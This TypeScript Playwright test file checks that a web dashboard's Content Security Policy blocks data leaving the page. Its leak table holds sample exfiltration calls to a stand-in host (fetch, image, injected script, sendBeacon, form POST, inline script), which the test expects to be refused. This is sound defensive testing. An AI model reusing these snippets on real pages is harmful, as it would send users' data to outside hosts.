import type { Page } from '@playwright/test';
import { expect, test } from './support/test.ts';

const ELSEWHERE = 'http://elsewhere.example';

/** Every directive with everything it allows. Another origin in any of them is a leak. */
const POLICY = {
  'default-src': "'none'",
  'script-src': "'self'",
  'style-src': "'self'",
  'img-src': "'self' data: blob:",
  'font-src': "'self'",
  'connect-src': "'self'",
  'worker-src': "'self'",
  'manifest-src': "'self'",
  'base-uri': "'none'",
  'form-action': "'none'",
  'object-src': "'none'",
};

test('the server sends the same policy and forbids framing', async ({ request }) => {
  for (const path of ['/', '/students', '/sw.js']) {
    const headers = (await request.get(path)).headers();
    expect(directivesOf(headers['content-security-policy'])).toEqual({
      ...POLICY,
      'frame-ancestors': "'none'",
    });
  }
});

test.describe('a deliberate leak', () => {
  // The browser logs each refusal; here refusals are expected.
  test.use({ allowedConsole: /Content Security Policy/ });

  test('is refused in every way it is tried', async ({ page, context }) => {
    // This server would answer any request, so that a refusal comes from the policy and not from the network.
    const answered: string[] = [];
    await context.route(`${ELSEWHERE}/**`, async (route) => {
      answered.push(route.request().url());
      await route.fulfill({ status: 200, body: '' });
    });
    await page.goto('/');
    // @shows §7: No network calls
    await test.step('the page has a policy that allows no other origin', async () => {
      const meta = page.locator('head > meta[http-equiv="Content-Security-Policy"]');
      expect(directivesOf(await meta.getAttribute('content'))).toEqual(POLICY);
    });
    await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
    for (const [title, { blocked, leak }] of Object.entries(LEAKS)) {
      await test.step(title, async () => {
        expect(await refusedAfter(page, leak)).toBe(blocked);
        expect(answered).toEqual([]);
      });
    }
    expect(await page.evaluate(() => document.documentElement.dataset['leaked'])).toBeUndefined();
  });
});

/** Each leak runs in the page and must be refused with the directive `blocked`. */
const LEAKS: Readonly<Record<string, { blocked: string; leak: (elsewhere: string) => void }>> = {
  'fetch is refused': {
    blocked: `${ELSEWHERE}/fetch`,
    leak: (elsewhere) => {
      void fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
    },
  },
  'an image is refused': {
    blocked: `${ELSEWHERE}/image.png`,
    leak: (elsewhere) => {
      new Image().src = `${elsewhere}/image.png`;
    },
  },
  'a script is refused': {
    blocked: `${ELSEWHERE}/script.js`,
    leak: (elsewhere) => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/script.js`;
      document.head.append(script);
    },
  },
  'a beacon is refused': {
    blocked: `${ELSEWHERE}/beacon`,
    leak: (elsewhere) => {
      navigator.sendBeacon(`${elsewhere}/beacon`, 'names');
    },
  },
  'a form is refused': {
    blocked: `${ELSEWHERE}/form`,
    leak: (elsewhere) => {
      const form = document.createElement('form');
      form.action = `${elsewhere}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  'an inline script is refused': {
    blocked: 'inline',
    leak: () => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.leaked = "yes"';
      document.head.append(script);
    },
  },
};

/** Returns what the policy refuses first after an attempted leak. */
async function refusedAfter(page: Page, leak: (elsewhere: string) => void): Promise<string> {
  const refusal = await page.evaluateHandle(() => ({
    next: new Promise<string>((resolve) =>
      document.addEventListener(
        'securitypolicyviolation',
        ({ blockedURI }) => resolve(blockedURI),
        { once: true },
      ),
    ),
  }));
  await page.evaluate(leak, ELSEWHERE);
  return refusal.evaluate(({ next }) => next);
}

function directivesOf(policy: string | null | undefined): Record<string, string> {
  return Object.fromEntries(
    (policy ?? '').split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources.join(' ')];
    }),
  );
}
